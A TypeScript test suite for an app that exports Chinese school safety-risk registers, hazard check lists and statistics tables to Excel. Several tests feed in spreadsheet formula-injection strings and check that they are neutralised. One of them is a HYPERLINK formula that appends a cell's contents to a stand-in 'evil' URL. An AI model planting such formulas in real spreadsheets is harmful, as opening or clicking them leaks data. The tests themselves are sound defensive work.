import ExcelJS from 'exceljs'
import { unzipSync, strFromU8 } from 'fflate'
import { describe, expect, it } from 'vitest'
import { riskLevelInfo } from '../../shared/domain/levels'
import { measureCategories, measureCategoryLabels } from '../../shared/domain/measures'
import { schoolCategories, schoolNatures, schoolScopes } from '../../shared/domain/school'
import { cellValue, numberedLines, safeText, textWidth } from '../../electron/sheets/cell-text'
import { buildHazardCheckList, hazardCheckColumns } from '../../electron/sheets/hazard-check-list'
import { sheetBuilders } from '../../electron/sheets'
import { buildRiskControlList, riskListColumns, riskPointRegisterColumns } from '../../electron/sheets/risk-control-list'
import { buildStatisticsTable, contactGroupHeader, statisticsColumns } from '../../electron/sheets/statistics-table'
import { fixtureSchool } from './fixture'

async function load(content: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(content as unknown as ArrayBuffer)
  return workbook
}

function sheetOf(workbook: ExcelJS.Workbook, name: string): ExcelJS.Worksheet {
  const sheet = workbook.getWorksheet(name)
  if (!sheet) throw new Error(`no sheet ${name}`)
  return sheet
}

/** Header texts of a row, line breaks removed, so that lookups read like the column names. */
function headerIndex(sheet: ExcelJS.Worksheet, row: number): Map<string, number> {
  const index = new Map<string, number>()
  sheet.getRow(row).eachCell({ includeEmpty: false }, (cell, col) => {
    index.set(String(cell.value).replace(/\n/g, ''), col)
  })
  return index
}

function bodyRows(sheet: ExcelJS.Worksheet, firstRow: number): ExcelJS.Row[] {
  const rows: ExcelJS.Row[] = []
  for (let row = firstRow; row <= sheet.rowCount; row++) rows.push(sheet.getRow(row))
  return rows
}

function sheetXml(content: Buffer): string {
  const files = unzipSync(new Uint8Array(content))
  return Object.entries(files)
    .filter(([name]) => name.startsWith('xl/worksheets/'))
    .map(([, data]) => strFromU8(data))
    .join('\n')
}

describe('cell text', () => {
  it('guards texts that would start a formula and leaves numbers alone', () => {
    expect(safeText('=HYPERLINK("http://evil/"&A1,"点我")')).toBe(`'=HYPERLINK("http://evil/"&A1,"点我")`)
    expect(safeText('+1-2')).toBe("'+1-2")
    expect(safeText('-3')).toBe("'-3")
    expect(safeText('@SUM(A1)')).toBe("'@SUM(A1)")
    expect(safeText('\t=1')).toBe("'\t=1")
    expect(safeText('\r=1')).toBe("'\r=1")
    expect(safeText('配电室 = 危险')).toBe('配电室 = 危险')
    expect(cellValue(-3)).toBe(-3)
    expect(cellValue(0.5)).toBe(0.5)
    expect(cellValue(null)).toBeNull()
  })

  it('removes characters XML cannot carry, and a trigger they hid is still guarded', () => {
    expect(safeText('a\u0001b\u000Bc\uD800d')).toBe('abcd')
    expect(safeText('\u0000=1+1')).toBe("'=1+1")
    expect(safeText('𠮷野家')).toBe('𠮷野家')
  })

  it('counts a Chinese character as two width units and numbers measures', () => {
    expect(textWidth('风险')).toBe(4)
    expect(textWidth('FX-01')).toBe(5)
    expect(numberedLines(['甲', '乙'])).toBe('1. 甲\n2. 乙')
  })
})

describe('风险分级管控清单', () => {
  it('has one row per risk with its level word and colour, grouped by risk point', async () => {
    const data = fixtureSchool()
    const workbook = await load(await buildRiskControlList(data))
    const sheet = sheetOf(workbook, '风险分级管控清单')
    expect(String(sheet.getCell('A1').value)).toBe('焦作市解放区测试小学安全风险分级管控清单')
    expect(sheet.getCell('A1').isMerged).toBe(true)
    expect(sheet.getCell(1, riskListColumns.length).master.address).toBe('A1')

    const headers = headerIndex(sheet, 2)
    expect([...headers.keys()]).toEqual(riskListColumns.map((column) => column.header.replace(/\n/g, '')))
    const col = (name: string) => {
      const found = headers.get(name)
      if (!found) throw new Error(`no column ${name}`)
      return found
    }

    const risks = data.riskPoints.flatMap((point) => point.risks.map((risk) => ({ point, risk })))
    const rows = bodyRows(sheet, 3)
    expect(rows).toHaveLength(risks.length)
    risks.forEach(({ point, risk }, index) => {
      const row = rows[index]
      expect(row.getCell(col('序号')).value).toBe(index + 1)
      expect(row.getCell(col('风险点编号')).value).toBe(point.code)
      expect(row.getCell(col('风险点名称')).value).toBe(point.name)
      expect(row.getCell(col('危险有害因素')).value).toBe(safeText(risk.hazard))
      const level = row.getCell(col('风险等级'))
      expect(level.value).toBe(riskLevelInfo[risk.level].word)
      expect((level.fill as ExcelJS.FillPattern).fgColor?.argb).toBe(`FF${riskLevelInfo[risk.level].rgb}`)
      for (const category of measureCategories) {
        const texts = risk.measures.filter((measure) => measure.category === category).map((measure) => measure.content)
        const value = row.getCell(col(measureCategoryLabels[category])).value
        expect(value ?? '').toBe(texts.length ? numberedLines(texts) : '')
      }
    })

    // LEC: L, E, C and D; LS: L and S with C empty; direct grading: no factors.
    const [lec, lecNegative, ls, direct] = rows
    expect([lec, ls, direct].map((row) => row.getCell(col('评价方法')).value)).toEqual(['LEC法', 'LS法', '直接判定'])
    expect(['L', 'E/S', 'C', '风险值(D/R)'].map((name) => lec.getCell(col(name)).value)).toEqual([3, 6, 15, 270])
    expect(['L', 'E/S', 'C', '风险值(D/R)'].map((name) => ls.getCell(col(name)).value)).toEqual([4, 5, null, 20])
    expect(['L', 'E/S', 'C', '风险值(D/R)'].map((name) => direct.getCell(col(name)).value)).toEqual([null, null, null, null])
    expect(lec.getCell(col('工程技术措施')).value).toBe('1. 配电柜加装漏电保护装置\n2. 配电室门口设置挡鼠板')
    expect(lec.getCell(col('可能导致的事故类型')).value).toBe('触电、火灾')
    expect(lec.getCell(col('类型')).value).toBe('设施场所')
    expect(lec.getCell(col('管控层级')).value).toBe('部门级')
    expect(lec.getCell(col('责任岗位')).value).toBe('电工')
    expect(lec.getCell(col('责任人')).value).toBe('吴师傅')
    // A risk without its own owner prints its risk point's.
    expect(lecNegative.getCell(col('责任人')).value).toBe('吴师傅')

    // Formula-like texts come back as guarded text; a negative number stays a number.
    expect(lec.getCell(col('危险有害因素')).value).toBe(`'=HYPERLINK("http://evil/"&A1,"点我")`)
    expect(lecNegative.getCell(col('危险有害因素')).value).toBe("'@SUM(A1) 配电柜周边堆放杂物")
    expect(lecNegative.getCell(col('L')).value).toBe(-3)
    expect(lecNegative.getCell(col('L')).type).toBe(ExcelJS.ValueType.Number)
    expect(lecNegative.getCell(col('E/S')).value).toBe(0.5)
    expect(lecNegative.getCell(col('风险值(D/R)')).value).toBe(10.5)
  })

  it('merges the risk point over its risks and borders every cell of the range', async () => {
    const workbook = await load(await buildRiskControlList(fixtureSchool()))
    const sheet = sheetOf(workbook, '风险分级管控清单')
    for (const column of ['B', 'C', 'D', 'E']) {
      const lower = sheet.getCell(`${column}4`)
      expect(lower.isMerged).toBe(true)
      expect(lower.master.address).toBe(`${column}3`)
      expect(lower.border?.bottom?.style).toBe('thin')
      expect(lower.border?.left?.style).toBe('thin')
      expect(sheet.getCell(`${column}3`).border?.top?.style).toBe('thin')
    }
    // A risk point with one risk is not merged; the risk columns are never merged.
    expect(sheet.getCell('B5').isMerged).toBe(false)
    expect(sheet.getCell('F4').isMerged).toBe(false)
    sheet.eachRow((row, rowNumber) => {
      if (rowNumber < 2) return
      for (let col = 1; col <= riskListColumns.length; col++) {
        const cell = row.getCell(col)
        expect(cell.border?.top?.style, cell.address).toBe('thin')
        expect(cell.border?.right?.style, cell.address).toBe('thin')
        expect(cell.alignment?.wrapText, cell.address).toBe(true)
      }
    })
  })

  it('prints landscape fitted to the width, header repeated and frozen, widths set', async () => {
    const workbook = await load(await buildRiskControlList(fixtureSchool()))
    // Excel's paper codes: the 21-column list goes on A3 (8), the register on A4 (9).
    for (const [name, columns, paper] of [
      ['风险分级管控清单', riskListColumns, 8],
      ['风险点登记台账', riskPointRegisterColumns, 9]
    ] as const) {
      const sheet = sheetOf(workbook, name)
      expect(sheet.pageSetup.printTitlesRow).toBe('2:2')
      expect(sheet.pageSetup.orientation).toBe('landscape')
      expect(sheet.pageSetup.paperSize).toBe(paper)
      expect(sheet.pageSetup.fitToPage).toBe(true)
      expect(sheet.pageSetup.fitToWidth).toBe(1)
      expect(sheet.pageSetup.fitToHeight).toBe(0)
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 })
      expect(sheet.headerFooter.oddFooter).toContain('&P')
      columns.forEach((column, index) => {
        const width = sheet.getColumn(index + 1).width ?? 0
        expect(width, column.header).toBeGreaterThanOrEqual(column.min)
        expect(width, column.header).toBeLessThanOrEqual(column.max)
      })
      expect(sheet.getCell('B2').font?.name).toBe('黑体')
      expect(sheet.getCell('B2').font?.bold).toBe(true)
      expect(sheet.getCell('B3').font?.name).toBe('宋体')
    }
  })

  it('lists every risk point in the register with its highest level and risk count', async () => {
    const data = fixtureSchool()
    const workbook = await load(await buildRiskControlList(data))
    const sheet = sheetOf(workbook, '风险点登记台账')
    const rows = bodyRows(sheet, 3)
    expect(rows.map((row) => row.getCell(2).value)).toEqual(['FX-01', 'FX-02', 'FX-03'])
    expect(rows.map((row) => row.getCell(7).value)).toEqual(['较大风险', '重大风险', '一般风险'])
    expect(rows.map((row) => row.getCell(11).value)).toEqual([2, 1, 1])
    expect(rows[0].getCell(6).value).toBe('触电、火灾')
    expect(rows[0].getCell(8).value).toBe('部门级')
    expect((rows[1].getCell(7).fill as ExcelJS.FillPattern).fgColor?.argb).toBe('FFFF0000')
    expect(rows[2].getCell(10).value).toBe('周联系')
  })

  it('names the sole holder of the responsible post when no person is given', async () => {
    const data = fixtureSchool()
    data.riskPoints[2].ownerStaffId = null
    data.riskPoints[2].risks[0].ownerStaffId = null
    data.posts[0].staffIds = [1]
    const workbook = await load(await buildRiskControlList(data))
    expect(sheetOf(workbook, '风险点登记台账').getCell('J5').value).toBe('周联系')
    expect(sheetOf(workbook, '风险分级管控清单').getCell('U6').value).toBe('周联系')
    data.posts[0].staffIds = [1, 2]
    const shared = await load(await buildRiskControlList(data))
    expect(sheetOf(shared, '风险点登记台账').getCell('J5').value ?? '').toBe('')
  })

  it('writes no formula anywhere in the file', async () => {
    const content = await buildRiskControlList(fixtureSchool())
    expect(sheetXml(content)).not.toMatch(/<f[ >]/)
  })
})

describe('隐患排查清单', () => {
  it('has one row per check item grouped by risk point, with the measure and level', async () => {
    const data = fixtureSchool()
    const content = await buildHazardCheckList(data)
    expect(sheetXml(content)).not.toMatch(/<f[ >]/)
    const sheet = sheetOf(await load(content), '隐患排查清单')
    expect(String(sheet.getCell('A1').value)).toBe('焦作市解放区测试小学隐患排查清单')
    expect([...headerIndex(sheet, 2).keys()]).toEqual(hazardCheckColumns.map((column) => column.header))
    const rows = bodyRows(sheet, 3)
    expect(rows).toHaveLength(data.checkItems.length)
    expect(rows.map((row) => row.getCell(1).value)).toEqual([1, 2, 3, 4])
    expect(rows.map((row) => row.getCell(2).value)).toEqual(['FX-01', 'FX-01', 'FX-02', 'FX-03'])
    expect(sheet.getCell('B4').master.address).toBe('B3')
    expect(sheet.getCell('C4').master.address).toBe('C3')

    const [first, second, third, fourth] = rows
    expect(first.getCell(4).value).toBe("'=1+1 漏电保护装置是否有效")
    expect(third.getCell(4).value).toBe("'@留样是否规范")
    expect(first.getCell(5).value).toBe('按试验按钮能正常跳闸')
    expect(first.getCell(6).value).toBe('测试检测')
    expect(first.getCell(7).value).toBe('日常排查')
    expect(first.getCell(8).value).toBe('每周')
    expect(first.getCell(9).value).toBe('电工')
    expect(first.getCell(10).value).toBe('配电柜加装漏电保护装置')
    expect(second.getCell(9).value).toBe('安全办主任')
    expect(first.getCell(11).value).toBe('较大风险')
    expect(third.getCell(11).value).toBe('重大风险')
    expect((third.getCell(11).fill as ExcelJS.FillPattern).fgColor?.argb).toBe('FFFF0000')
    // Added by hand: no measure, the level of its risk point.
    expect(fourth.getCell(10).value ?? '').toBe('')
    expect(fourth.getCell(11).value).toBe('一般风险')
    expect(sheet.pageSetup.printTitlesRow).toBe('2:2')
    hazardCheckColumns.forEach((column, index) => expect(sheet.getColumn(index + 1).width).toBeGreaterThanOrEqual(column.min))
  })
})

describe('统计表', () => {
  it('follows the layout of the notice: title, 填报 lines, two-row header, the school, 填表人, notes', async () => {
    const data = fixtureSchool()
    const sheet = sheetOf(await load(await buildStatisticsTable(data)), '统计表')
    const year = new Date(data.exportedAt).getFullYear()
    expect(sheet.getCell('A1').value).toBe(`${year}年焦作市中小学幼儿园(含民办)全面推进双重预防体系建设统计表`)
    expect(sheet.getCell('K1').master.address).toBe('A1')
    expect(sheet.getCell('A2').value).toBe('填报单位(盖章)：焦作市解放区测试小学')
    expect(sheet.getCell('A3').value).toBe('填报时间：2026年12月4日')

    // Every single column spans both header rows; 联系人 spans 姓名 and 联系电话.
    const singles = ['A', 'B', 'C', 'D', 'E', 'F', 'G', 'H', 'K']
    for (const column of singles) {
      expect(sheet.getCell(`${column}5`).isMerged, column).toBe(true)
      expect(sheet.getCell(`${column}5`).master.address).toBe(`${column}4`)
    }
    expect(['A4', 'B4', 'C4', 'D4', 'E4', 'F4', 'G4', 'H4', 'K4'].map((address) => sheet.getCell(address).value)).toEqual([
      '序号',
      '县(市)区',
      '所在范围',
      '办学性质',
      '所属类别',
      '学校名称',
      '校(园)长',
      '主管双重预防体系建设副校(园)长',
      '备注'
    ])
    expect(sheet.getCell('I4').value).toBe(contactGroupHeader)
    expect(sheet.getCell('I4').value).toBe('主管双重预防体系建设联系人')
    expect(sheet.getCell('J4').master.address).toBe('I4')
    expect(sheet.getCell('I5').isMerged).toBe(false)
    expect(sheet.getCell('I5').value).toBe('姓名')
    expect(sheet.getCell('J5').value).toBe('联系电话')
    expect(sheet.getCell('J5').border?.bottom?.style).toBe('thin')
    expect(sheet.getCell('K5').border?.right?.style).toBe('thin')

    expect(sheet.getRow(6).values).toEqual([
      undefined,
      1,
      '解放区',
      '城区',
      '公办',
      '小学',
      '焦作市解放区测试小学',
      '刘校长',
      '陈副校长',
      '周联系',
      '0391-2900001',
      '含附属幼儿园'
    ])
    expect(sheet.getCell('A8').value).toBe('填表人：周联系')
    expect(sheet.getCell('A9').value).toBe('填表人联系电话：0391-2900001')

    const notes = [11, 12, 13].map((row) => String(sheet.getCell(`A${row}`).value))
    expect(notes[0]).toMatch(/^注：1\. /)
    expect(notes[0]).toContain(`“所在范围”填：${schoolScopes.join('、')}`)
    expect(notes[0]).toContain(`“办学性质”填：${schoolNatures.join('、')}`)
    expect(notes[0]).toContain(`“所属类别”填：${schoolCategories.join('、')}`)
    expect(notes[0]).toContain('城区、乡镇、农村')
    expect(notes[0]).toContain('普通初中、普通高中、特教学校、小学、一贯制学校、幼儿园、中职')
    expect(notes[1]).toMatch(/^2\. /)
    expect(notes[2]).toMatch(/^3\. /)

    // Borders on the table only.
    expect(sheet.getCell('A2').border?.top).toBeUndefined()
    expect(sheet.getCell('A8').border?.top).toBeUndefined()
    expect(sheet.getCell('A6').border?.top?.style).toBe('thin')
    expect(sheet.pageSetup.printTitlesRow).toBe('4:5')
    statisticsColumns.forEach((column, index) => expect(sheet.getColumn(index + 1).width).toBe(column.width))
  })

  it('leaves a field the school has not filled empty and guards a phone written +86', async () => {
    const data = fixtureSchool()
    data.school.county = ''
    data.school.contactPhone = '+86 13900000009'
    const sheet = sheetOf(await load(await buildStatisticsTable(data)), '统计表')
    expect(sheet.getCell('B6').value ?? '').toBe('')
    expect(sheet.getCell('J6').value).toBe("'+86 13900000009")
  })
})

describe('sheet builders', () => {
  it('are listed with ASCII keys and build readable workbooks', async () => {
    expect(sheetBuilders.map((builder) => builder.key)).toEqual(['risk-control-list', 'hazard-check-list', 'statistics-table', 'hazard-ledger'])
    for (const builder of sheetBuilders) {
      expect(builder.kind).toBe('xlsx')
      const workbook = await load(await builder.build(fixtureSchool()))
      expect(workbook.worksheets.length).toBeGreaterThan(0)
    }
  })

  it('build for a school with no risk points yet', async () => {
    const data = fixtureSchool()
    data.riskPoints = []
    data.checkItems = []
    for (const builder of sheetBuilders) {
      const workbook = await load(await builder.build(data))
      expect(workbook.worksheets.length).toBeGreaterThan(0)
    }
  })
})
